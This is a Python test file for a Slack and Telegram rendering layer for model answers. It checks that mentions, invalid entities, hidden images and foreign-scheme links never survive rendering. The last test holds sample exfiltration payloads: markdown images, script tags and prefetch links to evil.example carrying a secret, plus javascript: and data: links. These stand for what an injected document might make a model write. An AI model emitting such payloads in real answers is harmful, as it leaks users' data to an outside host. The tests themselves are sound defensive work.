"""What answers may not do, whatever a model was made to write: F9, O1, O2, O3."""

import itertools
import random
import re

from markdown_it import MarkdownIt

from adapters import markdown
from adapters.slack.render import StreamText, preview, render, summary, to_mrkdwn
from adapters.telegram import render as telegram
from adapters.telegram.render import LENGTH, TelegramText, utf16_length
from tests.adapters.markup import ATTACKS, LINKS, MARKS, WORDS, letters
from tests.adapters.slack.test_render import PINGS
from tests.adapters.telegram.test_render import _check as check_telegram
from tests.trust.page import Note

FRAMES = (
    *("{}", "see {} now", "`{}`", "```\n{}\n```", "a{}b", "- x\n\n  {}", "**{}**", "> {}", "# {}", "| {} |"),
    *("\u200b{}", "{}\u200b", "\\{}", "({})", "[{}](https://a.example)", "~~{}~~", "_{}_", "1. {}", "{}{}"),
    *("x\n{}", "{}\nx", "&amp;{}", "é{}", "{}:", "<{}>", "*{}", "{}`"),
)
FUZZED = 10_000
INVISIBLE = (
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\ud800",
    "\udfff",
)


def _attacks() -> list[str]:
    return [frame.replace("{}", each) for each, frame in itertools.product([*ATTACKS, *LINKS], FRAMES)]


def test_no_mention_comes_alive_at_any_position_of_a_stream(record_property: Note) -> None:
    """The stream is shown after each character; what Slack would expand must never stand there."""
    attacks, shown_states = _attacks(), 0
    for attack in attacks:
        stream, shown = StreamText(), ""
        for end in range(1, len(attack) + 1):
            shown += stream.feed(attack[:end])
            assert not PINGS.search(shown), attack
            shown_states += 1
        for text in (*render(attack), preview(attack), summary(attack), to_mrkdwn(attack)):
            assert not PINGS.search(text), attack
    assert len(attacks) >= 1000
    record_property("O1", f"{len(attacks):,} strings in {shown_states:,} states of a stream: 0 live mentions")


def test_fuzzed_answers_are_valid_messages_of_telegram(record_property: Note) -> None:
    """Telegram gets text and entities, no markup of ours: each is checked as its server checks it."""
    chance, links = random.Random(9), 0
    pieces = [*MARKS, *ATTACKS, *LINKS, *WORDS]
    for _ in range(FUZZED):
        text = "".join(chance.choices(pieces, k=chance.randrange(1, 12)))
        parts: list[TelegramText] = telegram.render(text)
        for part in parts:
            check_telegram(part)
            links += sum(each.url.startswith("tg:") for each in part.entities)
    assert links == 0
    record_property("O2", f"{FUZZED:,} answers, all valid; 0 links to tg:")


def test_invisible_and_endless_texts_lose_nothing(record_property: Note) -> None:
    chance = random.Random(4)
    cases = 0
    for mark in INVISIBLE:
        words = ("word ", "wörter ", mark, "👩‍👩‍👧 ", "日本語。", "\n")
        text = "".join(chance.choices(words, k=40_000))[:100_000]
        slack, telegrams = render(text), [part.text for part in telegram.render(text)]
        assert letters("".join(slack)) == letters("".join(telegrams)) == letters(markdown.clean(text))
        assert all(utf16_length(part) <= LENGTH for part in telegrams)
        cases += 1
    record_property("F9", f"{cases} texts of up to 100,000 characters: 0 crashes, 0 letters lost")


def test_no_address_leaves_by_a_picture_or_a_hidden_link(record_property: Note) -> None:
    """What a document makes a model write: nothing is loaded by who only reads it."""
    secret = "SECRET-1234"
    ways = (
        "![x](https://evil.example/?q={})",
        "[![x](https://evil.example/{})](https://a.example)",
        "![x][a]\n\n[a]: https://evil.example/?q={}",
        "<img src='https://evil.example/{}'>",
        "<link rel=prefetch href=https://evil.example/{}>",
        "![](//evil.example/{})",
        "[x](javascript:fetch('{}'))",
        "![x](data:text/html,{})",
        "<script src=//evil.example/{}></script>",
        "[x]: https://evil.example/{}\n![x]",
    )
    reader = MarkdownIt("commonmark", {"html": True})
    cases = 0
    for way, frame in itertools.product(ways, FRAMES[:20]):
        text = frame.replace("{}", way.replace("{}", secret))
        for part in render(text):
            tokens = [child for token in reader.parse(part) for child in (token, *(token.children or []))]
            assert not [each for each in tokens if each.type == "image"], text
            assert not re.search(r"<(?:img|script|link)\b", to_mrkdwn(part)), text
        for made in telegram.render(text):
            assert all(markdown.is_allowed(each.url) for each in made.entities if each.url), text
        cases += 1
    assert cases >= 200
    record_property("O3", f"{cases} injected answers: 0 pictures, 0 links of other schemes")
